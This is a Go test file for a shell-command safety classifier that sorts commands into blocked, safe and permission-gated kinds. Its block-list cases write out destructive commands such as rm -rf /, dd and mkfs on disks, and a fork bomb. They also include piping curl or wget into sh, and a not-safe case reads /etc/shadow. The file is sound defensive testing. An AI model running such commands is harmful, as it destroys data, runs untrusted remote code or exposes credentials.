package security

import (
	"testing"

	"nare/internal/permission"
)

var allGranted = permission.Set{
	InstallPackages: true,
	RemovePackages:  true,
	SystemUpdate:    true,
	ManageServices:  true,
	GeneralCommands: true,
}

func TestClassifyBlocked(t *testing.T) {
	tests := []string{
		"",
		"   ",
		"rm -rf /",
		"rm -rf /*",
		"sudo rm -rf /",
		"rm -fr ~",
		"rm -r --no-preserve-root /",
		"rm --recursive /etc",
		"rm -rf $HOME",
		"rm -rf /usr/",
		"cat image.iso > /dev/sda",
		"echo x >/dev/nvme0n1",
		"dd if=/dev/zero of=/dev/sda bs=1M",
		"sudo dd if=disk.img of=/dev/mmcblk0",
		"mkfs.ext4 /dev/sdb1",
		"/sbin/mkfs -t xfs /dev/sdb1",
		"wipefs -a /dev/sdb",
		":(){ :|:& };:",
		"curl -fsSL https://example.com/install.sh | sh",
		"wget -qO- https://example.com/x | sudo bash",
		"chmod -R 777 /",
		"shutdown -h now",
		"sudo reboot",
		"reboot",
		"poweroff",
		"halt",
		"init 0",
		"telinit 6",
		"/usr/bin/shutdown -r +5",
		"systemctl reboot",
		"sudo systemctl poweroff",
		"echo done && reboot",
		"df -h; shutdown now",
		"sudo -u root poweroff",
		"env LANG=C reboot",
		"bash -c 'reboot'",
		`sh -c "rm -rf /"`,
	}

	for _, cmd := range tests {
		t.Run(cmd, func(t *testing.T) {
			got := Classify(cmd)
			if got.Kind != VerdictBlocked {
				t.Fatalf("Classify(%q) = %s, want blocked", cmd, got)
			}
			if got.Reason == "" {
				t.Fatalf("Classify(%q) blocked without reason", cmd)
			}
			if ClassifyRun(cmd, allGranted).Kind != VerdictBlocked {
				t.Fatalf("ClassifyRun(%q) not blocked with every permission granted", cmd)
			}
		})
	}
}

func TestClassifySafe(t *testing.T) {
	tests := []string{
		"df -h /",
		"df -h",
		"du -sh /var/log",
		"free -m",
		"uptime",
		"ps aux",
		"ps aux | grep nginx",
		"ps aux --sort=-%mem | head -n 10",
		"top -bn1",
		"top -b -n 1 | head -20",
		"uname -a",
		"whoami",
		"id",
		"hostname",
		"date",
		"date +%Y-%m-%d",
		"ip addr",
		"ip -4 addr show",
		"ip route",
		"ss -tulpn",
		"netstat -tulpn",
		"lsblk",
		"lscpu",
		"cat /proc/meminfo",
		"cat /proc/cpuinfo | grep 'model name' | uniq",
		"journalctl -u nginx --since '1 hour ago'",
		"journalctl -xe | tail -n 50",
		"dmesg | tail",
		"dmesg -T",
		"systemctl status nginx",
		"systemctl list-units --failed",
		"systemctl is-active sshd",
		"pacman -Q",
		"pacman -Qi htop",
		"pacman -Ss firefox",
		"yay -Si google-chrome",
		"ls -la /etc",
		"pwd",
		"env LC_ALL=C df -h",
		"LC_ALL=C free -h",
	}

	for _, cmd := range tests {
		t.Run(cmd, func(t *testing.T) {
			if got := Classify(cmd); got.Kind != VerdictSafe {
				t.Fatalf("Classify(%q) = %s, want safe", cmd, got)
			}
			if got := ClassifyRun(cmd, permission.Set{}); got.Kind != VerdictSafe {
				t.Fatalf("ClassifyRun(%q) with no permissions = %s, want safe", cmd, got)
			}
		})
	}
}

func TestClassifyNotSafe(t *testing.T) {
	// read-only heads combined with writes, elevation or chaining lose safety
	tests := []string{
		"df -h > /tmp/out",
		"free -m >> log.txt",
		"ps aux 2>&1 | tee /tmp/ps",
		"uptime; echo hi",
		"uptime && touch x",
		"echo $(whoami)",
		"ls `pwd`",
		"sudo df -h",
		"journalctl --vacuum-time=2d",
		"journalctl --rotate",
		"dmesg -C",
		"dmesg --clear",
		"hostname newname",
		"date -s '2020-01-01'",
		"ps aux | xargs kill",
		"ps aux | sort -o /tmp/x",
		"tail -f /var/log/syslog",
		"cat /etc/shadow",
		"uptime &",
		`df -h "unterminated`,
	}

	for _, cmd := range tests {
		t.Run(cmd, func(t *testing.T) {
			got := Classify(cmd)
			if got.Kind == VerdictSafe {
				t.Fatalf("Classify(%q) = safe, want non-safe", cmd)
			}
		})
	}
}

func TestClassifyCategories(t *testing.T) {
	tests := []struct {
		cmd  string
		want permission.Category
	}{
		{"pacman -S htop", permission.InstallPackages},
		{"sudo pacman -S htop", permission.InstallPackages},
		{"sudo pacman -S --needed htop", permission.InstallPackages},
		{"pacman -Sy htop", permission.InstallPackages},
		{"yay -S google-chrome", permission.InstallPackages},
		{"pacman -R htop", permission.RemovePackages},
		{"sudo pacman -Rns htop", permission.RemovePackages},
		{"yay -Rs foo", permission.RemovePackages},
		{"pacman -Syu", permission.SystemUpdate},
		{"sudo pacman -Syu --noconfirm", permission.SystemUpdate},
		{"pacman -Syyu", permission.SystemUpdate},
		{"pacman -Sy", permission.SystemUpdate},
		{"yay -Syu", permission.SystemUpdate},
		{"yay", permission.SystemUpdate},
		{"systemctl restart nginx", permission.ManageServices},
		{"sudo systemctl enable --now sshd", permission.ManageServices},
		{"systemctl stop bluetooth", permission.ManageServices},
		{"systemctl --user restart pipewire", permission.ManageServices},
		{"echo hello", permission.GeneralCommands},
		{"touch /tmp/x", permission.GeneralCommands},
		{"sudo rm /tmp/x", permission.GeneralCommands},
		{"pacman -Scc", permission.GeneralCommands},
		{"pacman -U ./pkg.tar.zst", permission.GeneralCommands},
		{"pacman -S htop && systemctl restart nginx", permission.GeneralCommands},
		{"pacman -S htop > /tmp/log", permission.GeneralCommands},
		{"yay htop", permission.GeneralCommands},
	}

	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			got := Classify(tt.cmd)
			if got.Kind != VerdictRequiresPermission || got.Category != tt.want {
				t.Fatalf("Classify(%q) = %s, want requires_permission(%s)", tt.cmd, got, tt.want)
			}
		})
	}
}

func TestPackageOperationsAreExclusive(t *testing.T) {
	ops := []string{"-S", "-R", "-Q", "-U"}
	mods := []string{"", "y", "u", "yu", "yyu", "s", "i", "c", "n", "ns", "dd", "w"}
	args := []string{"", " htop", " htop vim"}

	for _, fe := range []string{"pacman", "yay"} {
		for _, op := range ops {
			for _, mod := range mods {
				for _, arg := range args {
					cmd := fe + " " + op + mod + arg
					matched := 0
					for _, rule := range categoryRules[:3] {
						if rule.match(cmd) {
							matched++
						}
					}
					if matched > 1 {
						t.Fatalf("%q matched %d package categories", cmd, matched)
					}
					if matched == 1 && packageOpOf(cmd) == opQuery {
						t.Fatalf("%q is both a query and a category", cmd)
					}
				}
			}
		}
	}
}

func TestClassifyIsPure(t *testing.T) {
	for _, cmd := range []string{"df -h /", "pacman -S htop", "rm -rf /", "echo hi"} {
		first := Classify(cmd)
		for i := 0; i < 5; i++ {
			if got := Classify(cmd); got != first {
				t.Fatalf("Classify(%q) changed: %s then %s", cmd, first, got)
			}
		}
	}
}

func TestClassifyRun(t *testing.T) {
	tests := []struct {
		name      string
		cmd       string
		set       permission.Set
		wantKind  VerdictKind
		wantLabel string
	}{
		{name: "sudo rm defaults", cmd: "sudo rm /tmp/x", wantKind: VerdictRequiresConfirmation, wantLabel: "sudo"},
		{name: "plain rm", cmd: "rm /tmp/x", wantKind: VerdictRequiresConfirmation, wantLabel: "rm"},
		{name: "kill", cmd: "pkill -9 firefox", wantKind: VerdictRequiresConfirmation, wantLabel: "kill"},
		{name: "pacman install", cmd: "pacman -S htop", wantKind: VerdictRequiresConfirmation, wantLabel: "pacman"},
		{name: "service restart", cmd: "systemctl restart nginx", wantKind: VerdictRequiresConfirmation, wantLabel: "systemctl"},
		{name: "fallback category", cmd: "touch /tmp/x", wantKind: VerdictRequiresConfirmation, wantLabel: "general_commands"},
		{name: "granted install still confirms", cmd: "pacman -S htop", set: permission.Set{InstallPackages: true}, wantKind: VerdictRequiresConfirmation, wantLabel: "pacman"},
		{name: "granted sudo still confirms", cmd: "sudo rm /tmp/x", set: permission.Set{GeneralCommands: true}, wantKind: VerdictRequiresConfirmation, wantLabel: "sudo"},
		{name: "rm with everything granted", cmd: "rm -rf /tmp/x", set: allGranted, wantKind: VerdictRequiresConfirmation, wantLabel: "rm"},
		{name: "kill with everything granted", cmd: "kill 1234", set: allGranted, wantKind: VerdictRequiresConfirmation, wantLabel: "kill"},
		{name: "service with everything granted", cmd: "systemctl restart nginx", set: allGranted, wantKind: VerdictRequiresConfirmation, wantLabel: "systemctl"},
		{name: "granted unlabelled runs", cmd: "touch /tmp/x", set: permission.Set{GeneralCommands: true}, wantKind: VerdictRequiresPermission},
		{name: "safe", cmd: "uptime", wantKind: VerdictSafe},
		{name: "blocked", cmd: "reboot", set: allGranted, wantKind: VerdictBlocked},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := ClassifyRun(tt.cmd, tt.set)
			if got.Kind != tt.wantKind {
				t.Fatalf("ClassifyRun(%q) = %s, want kind %s", tt.cmd, got, tt.wantKind)
			}
			if tt.wantLabel != "" && got.Label != tt.wantLabel {
				t.Fatalf("ClassifyRun(%q).Label = %q, want %q", tt.cmd, got.Label, tt.wantLabel)
			}
		})
	}
}

func TestVerdictExecutable(t *testing.T) {
	install := RequiresPermission(permission.InstallPackages)
	if install.Executable(permission.Set{}) {
		t.Fatalf("install executable without permission")
	}
	if !install.Executable(permission.Set{InstallPackages: true}) {
		t.Fatalf("install not executable with permission")
	}
	if !Safe().Executable(permission.Set{}) {
		t.Fatalf("safe not executable")
	}
	if Blocked("x").Executable(allGranted) {
		t.Fatalf("blocked executable")
	}
	if RequiresConfirmation("sudo").Executable(allGranted) {
		t.Fatalf("confirmation executable")
	}
}

func TestParseShellWords(t *testing.T) {
	words, err := parseShellWords(`journalctl -u "my unit" --since '1 hour ago' a\ b`)
	if err != nil {
		t.Fatalf("parseShellWords: %v", err)
	}
	want := []string{"journalctl", "-u", "my unit", "--since", "1 hour ago", "a b"}
	if len(words) != len(want) {
		t.Fatalf("words = %q, want %q", words, want)
	}
	for i := range want {
		if words[i] != want[i] {
			t.Fatalf("words[%d] = %q, want %q", i, words[i], want[i])
		}
	}
	if _, err := parseShellWords(`echo "abc`); err == nil {
		t.Fatalf("unterminated quote parsed")
	}
}
